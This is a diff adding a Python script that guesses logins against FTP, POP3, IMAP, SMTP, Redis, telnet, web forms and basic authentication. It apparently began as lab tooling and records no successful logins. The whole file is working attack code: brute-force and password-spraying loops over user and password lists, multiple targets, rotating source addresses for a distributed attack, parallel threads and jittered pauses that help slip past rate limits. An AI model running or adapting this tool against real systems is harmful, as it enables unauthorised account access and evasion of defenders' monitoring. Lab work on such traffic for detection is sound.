@@ -1,0 +1,153 @@
+"""A plain password guesser for ftp, pop3, imap, smtp, redis, telnet, web forms and basic authentication.
+
+Started as a file inside a namespace of the lab, so it imports nothing but the standard library. Sources (one or more addresses
+of the attacking host) take turns, and so do victims, which makes a spread or a distributed attack of it.
+"""
+
+from __future__ import annotations
+
+import argparse
+import base64
+import contextlib
+import ftplib
+import http.client
+import imaplib
+import itertools
+import poplib
+import random
+import smtplib
+import socket
+import threading
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+Try = Callable[[str, int, str, str, "str | None"], None]
+
+
+def _source(source: str | None) -> tuple[str, int] | None:
+    return (source, 0) if source else None
+
+
+def ftp(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """USER and PASS."""
+    with ftplib.FTP(timeout=8) as made:  # noqa: S321 - guessing at a clear-text server is its purpose
+        made.connect(host, port, source_address=_source(source))
+        made.login(user, password)
+
+
+def pop3(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """USER and PASS, as poplib sends them; poplib binds no source."""
+    made = poplib.POP3(host, port, timeout=8)
+    try:
+        made.user(user)
+        made.pass_(password)
+    finally:
+        made.close()
+
+
+def imap(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """LOGIN."""
+    made = imaplib.IMAP4(host, port, timeout=8)
+    try:
+        made.login(user, password)
+    finally:
+        with contextlib.suppress(OSError, imaplib.IMAP4.error):
+            made.logout()
+
+
+def smtp(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """EHLO and AUTH."""
+    with smtplib.SMTP(timeout=8, source_address=_source(source)) as made:
+        made.connect(host, port)
+        made.login(user, password)
+
+
+def _lines(host: str, port: int, source: str | None, said: list[str], first: bool) -> None:
+    with socket.create_connection((host, port), timeout=8, source_address=_source(source)) as made:
+        if first:
+            made.recv(2000)
+        for line in said:
+            made.sendall(line.encode() + b"\r\n")
+            made.recv(2000)
+
+
+def redis(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """AUTH as an inline command."""
+    _lines(host, port, source, [f"AUTH {password}", "PING"], first=False)
+
+
+def telnet(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """The account and the password as lines after whatever the server asked; options are refused by silence."""
+    _lines(host, port, source, [user, password, "exit"], first=True)
+
+
+def _asked(host: str, port: int, source: str | None, method: str, path: str, body: str, headers: dict[str, str]) -> None:
+    made = http.client.HTTPConnection(host, port, timeout=8, source_address=_source(source))
+    made.request(method, path, body or None, {"User-Agent": "Mozilla/5.0", **headers})
+    made.getresponse().read()
+    made.close()
+
+
+def form(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """POST to the login form."""
+    kind = {"Content-Type": "application/x-www-form-urlencoded"}
+    _asked(host, port, source, "POST", "/login", f"user={user}&password={password}", kind)
+
+
+def basic(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """GET with an Authorization header."""
+    coded = base64.b64encode(f"{user}:{password}".encode()).decode()
+    _asked(host, port, source, "GET", "/admin/", "", {"Authorization": f"Basic {coded}"})
+
+
+KINDS: dict[str, Try] = {made.__name__: made for made in (ftp, pop3, imap, smtp, redis, telnet, form, basic)}
+REFUSED = (
+    OSError,
+    EOFError,
+    ftplib.Error,
+    poplib.error_proto,
+    imaplib.IMAP4.error,
+    smtplib.SMTPException,
+    http.client.HTTPException,
+)
+
+
+def main() -> None:
+    """Try pairs until `--seconds` are over; the same list again from its start where it was short."""
+    parser = argparse.ArgumentParser()
+    parser.add_argument("kind", choices=sorted(KINDS))
+    parser.add_argument("hosts", help="addresses, with commas between them")
+    parser.add_argument("port", type=int)
+    parser.add_argument("--users", type=Path, required=True)
+    parser.add_argument("--passwords", type=Path, required=True)
+    parser.add_argument("--spray", action="store_true", help="one password for every user, then the next password")
+    parser.add_argument("--sources", default="")
+    parser.add_argument("--parallel", type=int, default=1)
+    parser.add_argument("--pause", type=float, default=0.0, help="seconds after each try of a thread")
+    parser.add_argument("--jitter", type=float, default=0.0, help="share by which the pause varies")
+    parser.add_argument("--seconds", type=float, default=14.0)
+    options = parser.parse_args()
+    users, passwords = options.users.read_text().split(), options.passwords.read_text().split()
+    pairs = [(u, p) for p in passwords for u in users] if options.spray else [(u, p) for u in users for p in passwords]
+    turns = itertools.cycle((h, u, p) for u, p in pairs for h in options.hosts.split(","))
+    sources = itertools.cycle([s or None for s in options.sources.split(",")])
+    until, lock = time.monotonic() + options.seconds, threading.Lock()
+
+    def work() -> None:
+        while time.monotonic() < until:
+            with lock:
+                (host, user, password), source = next(turns), next(sources)
+            with contextlib.suppress(*REFUSED):
+                KINDS[options.kind](host, options.port, user, password, source)
+            time.sleep(options.pause * random.uniform(1 - options.jitter, 1 + options.jitter))
+
+    threads = [threading.Thread(target=work) for _ in range(options.parallel)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+if __name__ == "__main__":
+    main()
